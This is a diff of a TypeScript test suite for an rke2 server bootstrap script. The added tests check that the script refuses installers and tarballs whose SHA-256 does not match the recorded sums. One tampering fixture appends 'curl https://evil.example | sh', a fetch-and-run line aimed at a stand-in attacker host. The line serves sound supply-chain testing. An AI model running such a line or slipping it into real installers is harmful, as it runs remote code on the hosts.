@@ -1,6 +1,6 @@
 import { readFileSync, rmSync } from 'node:fs';
 import { join } from 'node:path';
-import { NodeSandbox } from '../../helpers/node-sandbox';
+import { INSTALLER_STUB, NodeSandbox, sha256 } from '../../helpers/node-sandbox';
 import { runValidator } from '../../helpers/validators';
 import { BOOTSTRAP_GIVE_UP_STATUS, BOOTSTRAPPED_MARKER } from '../../../lib/kubernetes/private/server-units';
 
@@ -10,6 +10,16 @@ const TOKEN = 'K10e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b8
 const CONFIG = 'token-file: /etc/rancher/rke2/token\n';
 
 const servers = ['10.0.0.10', '10.0.16.10', '10.0.32.10'];
+
+// The release as the download server holds it, and the sums the user data carries for it.
+const TARBALL = 'rke2.linux-amd64.tar.gz';
+const TARBALL_TEXT = 'the rke2 release tarball\n';
+const RELEASE = {
+  RKE2_INSTALL_URL: 'https://raw.githubusercontent.com/rancher/rke2/382a8b31a8fd78e376ab6f02c4bb0ec5592aada2/install.sh',
+  RKE2_INSTALL_SHA256: sha256(INSTALLER_STUB),
+  RKE2_ARTIFACT_URL: `https://github.com/rancher/rke2/releases/download/v1.35.7%2Brke2r1/${TARBALL}`,
+  RKE2_ARTIFACT_SHA256: sha256(TARBALL_TEXT),
+};
 
 /** Server `i` of three (or a lone server with `count: 1`), with its parameters in SSM. */
 function node(i: number, options: { initialized?: boolean; count?: number; env?: Record<string, string> } = {}): NodeSandbox {
@@ -24,7 +34,7 @@ function node(i: number, options: { initialized?: boolean; count?: number; env?:
     AWS_REGION: 'us-east-1',
     PARAMETER_PREFIX: '/rancher/rke-ha',
     RKE2_VERSION: 'v1.35.7+rke2r1',
-    RKE2_INSTALL_URL: 'https://get.rke2.io',
+    ...RELEASE,
     STATE_ATTEMPTS: '2',
     TURN_WAIT_SECONDS: '120',
     ...options.env,
@@ -34,6 +44,7 @@ function node(i: number, options: { initialized?: boolean; count?: number; env?:
   for (const name of ['server-ca-cert', 'client-ca-cert']) b.parameter(name, CA.replace('server-ca', name));
   for (const name of ['server-ca-key', 'client-ca-key']) b.parameter(name, `-----BEGIN EC PRIVATE KEY-----\n${name}\n-----END EC PRIVATE KEY-----\n`);
   if (options.initialized) b.parameter('cluster-initialized', 'true');
+  b.release({ 'install.sh': INSTALLER_STUB, [TARBALL]: TARBALL_TEXT });
   boxes.push(b);
   return b;
 }
@@ -48,6 +59,7 @@ const TLS = 'var/lib/rancher/rke2/server/tls';
 const MARKER = BOOTSTRAPPED_MARKER.slice(1);
 const started = (b: NodeSandbox) => b.calls().includes('systemctl start rke2-server.service');
 const installed = (b: NodeSandbox) => b.calls().some((c) => c.startsWith('installer INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1'));
+const UNVERIFIED = 'var/lib/rancher/rancher-aws/unverified-artifact';
 
 describe('rke2-bootstrap.sh', () => {
   it('passes shellcheck as committed', () => {
@@ -213,6 +225,95 @@ describe('rke2-bootstrap.sh', () => {
       expect(r.status).toBe(1);
       expect(installed(b)).toBe(false);
       expect(b.exists(MARKER)).toBe(false);
+    });
+  });
+  describe('installs only what matches its recorded sum', () => {
+    it('a good release installs from the checked folder: the installer downloads nothing and checks the tarball against the recorded sum', () => {
+      const b = node(0);
+      expect(b.run({ file: SCRIPT }).status).toBe(0);
+      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([
+        `download ${RELEASE.RKE2_INSTALL_URL}`,
+        `download ${RELEASE.RKE2_ARTIFACT_URL}`,
+      ]);
+      // The folder holds the tarball and a sums file with the recorded sum (not one fetched from the same origin).
+      expect(b.calls()).toContain(`artifacts install.sh ${TARBALL} sha256sum-amd64.txt ${RELEASE.RKE2_ARTIFACT_SHA256}  ${TARBALL}`);
+      expect(installed(b)).toBe(true);
+      expect(b.exists(UNVERIFIED)).toBe(false);
+    });
+
+    it.each([
+      ['the tarball', TARBALL, RELEASE.RKE2_ARTIFACT_SHA256],
+      ['the installer', 'install.sh', RELEASE.RKE2_INSTALL_SHA256],
+    ])('%s changed: the boot stops for good (78) with one journal line, the marker and the metric, and nothing runs', (_what, file, expected) => {
+      const b = node(0, { env: { RESTART_METRIC_NAMESPACE: 'RancherHA/prod-rke-ha' } });
+      const tampered = file === TARBALL ? 'a tarball someone changed\n' : `${INSTALLER_STUB}curl https://evil.example | sh\n`;
+      b.release({ [file]: tampered });
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      const line = `refusing ${file} of v1.35.7+rke2r1 from ${file === TARBALL ? RELEASE.RKE2_ARTIFACT_URL : RELEASE.RKE2_INSTALL_URL}: its SHA-256 is ${sha256(tampered)}, the recorded sum is ${expected}; nothing was installed`;
+      expect(r.output.split('\n').filter((l) => l.includes('refusing'))).toEqual([`script.sh: ${line}`]);
+      expect(b.read(UNVERIFIED)).toBe(`${line}\n`);
+      expect(b.calls()).toContain('metric RancherHA/prod-rke-ha UnverifiedArtifact 1');
+      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
+      expect(started(b)).toBe(false);
+      expect(b.exists(`${TLS}/server-ca.key`)).toBe(false);
+      expect(b.exists(MARKER)).toBe(false);
+    });
+
+    it('a version the project records no sum for: refused before anything is downloaded', () => {
+      const b = node(0, { env: { RKE2_ARTIFACT_SHA256: '' } });
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      expect(r.output).toContain(`script.sh: refusing ${TARBALL} of v1.35.7+rke2r1: no SHA-256 is recorded for it; nothing was installed`);
+      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([`download ${RELEASE.RKE2_INSTALL_URL}`]);
+      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
+    });
+
+    it('a transfer that fails is tried again (bounded) and the boot goes on', () => {
+      const b = node(0);
+      b.write(`download-errors/${TARBALL}`, '2');
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(0);
+      expect(b.calls().filter((c) => c === `download ${RELEASE.RKE2_ARTIFACT_URL}`)).toHaveLength(3);
+      expect(installed(b)).toBe(true);
+    });
+
+    it('downloads that keep failing stop the run after the bounded tries, with a status the unit retries, nothing installed', () => {
+      const b = node(0);
+      b.write('download-down', '');
+      const r = b.run({ file: SCRIPT });
+      expect(r.status).toBe(1);
+      expect(b.calls().filter((c) => c.startsWith('download'))).toHaveLength(5);
+      expect(r.output).toContain(`could not download ${RELEASE.RKE2_INSTALL_URL}; the next run tries again`);
+      expect(b.calls().some((c) => c.startsWith('installer'))).toBe(false);
+      expect(b.exists(UNVERIFIED)).toBe(false);
+    });
+
+    it('an air gap: installer and tarball from the mirror, checked against the same sums', () => {
+      const mirror = {
+        RKE2_INSTALL_URL: 'https://mirror.internal/rke2/install.sh',
+        RKE2_ARTIFACT_URL: `https://mirror.internal/rke2/v1.35.7%2Brke2r1/${TARBALL}`,
+      };
+      const good = node(0, { env: mirror });
+      expect(good.run({ file: SCRIPT }).status).toBe(0);
+      expect(good.calls().filter((c) => c.startsWith('download'))).toEqual([
+        `download ${mirror.RKE2_INSTALL_URL}`,
+        `download ${mirror.RKE2_ARTIFACT_URL}`,
+      ]);
+      expect(installed(good)).toBe(true);
+      const bad = node(0, { env: mirror });
+      bad.release({ [TARBALL]: 'the mirror serves another build\n' });
+      const r = bad.run({ file: SCRIPT });
+      expect(r.status).toBe(BOOTSTRAP_GIVE_UP_STATUS);
+      expect(r.output).toContain(`refusing ${TARBALL} of v1.35.7+rke2r1 from ${mirror.RKE2_ARTIFACT_URL}`);
+      expect(installed(bad)).toBe(false);
+    });
+
+    it('the RHEL family: the checked installer installs the signed RPMs, no tarball is fetched', () => {
+      const b = node(0, { env: { RKE2_INSTALL_METHOD: 'rpm' } });
+      expect(b.run({ file: SCRIPT }).status).toBe(0);
+      expect(b.calls().filter((c) => c.startsWith('download'))).toEqual([`download ${RELEASE.RKE2_INSTALL_URL}`]);
+      expect(b.calls()).toContain('installer INSTALL_RKE2_METHOD=rpm INSTALL_RKE2_TYPE=server INSTALL_RKE2_VERSION=v1.35.7+rke2r1 ');
     });
   });
 });
